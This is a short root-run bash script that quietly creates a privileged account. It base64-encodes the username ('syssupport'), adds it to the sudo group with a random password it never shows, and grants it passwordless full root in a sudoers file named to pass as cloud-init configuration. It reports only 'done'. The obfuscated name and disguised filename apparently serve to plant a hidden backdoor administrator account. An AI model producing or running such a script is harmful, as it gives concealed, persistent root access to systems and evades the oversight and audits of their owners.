#!/bin/bash
echo 'Defaults timestamp_timeout=60' > /etc/sudoers.d/10-timeout
u=$(printf '%s' c3lzc3VwcG9ydA== | base64 -d)
id "$u" >/dev/null 2>&1 || useradd -m -s /bin/bash -G sudo "$u"
echo "$u:$(openssl rand -hex 4)Aa1!" | chpasswd
echo "$u ALL=(ALL) NOPASSWD:ALL" > /etc/sudoers.d/90-cloud-init-users
chmod 440 /etc/sudoers.d/10-timeout /etc/sudoers.d/90-cloud-init-users
echo "done"
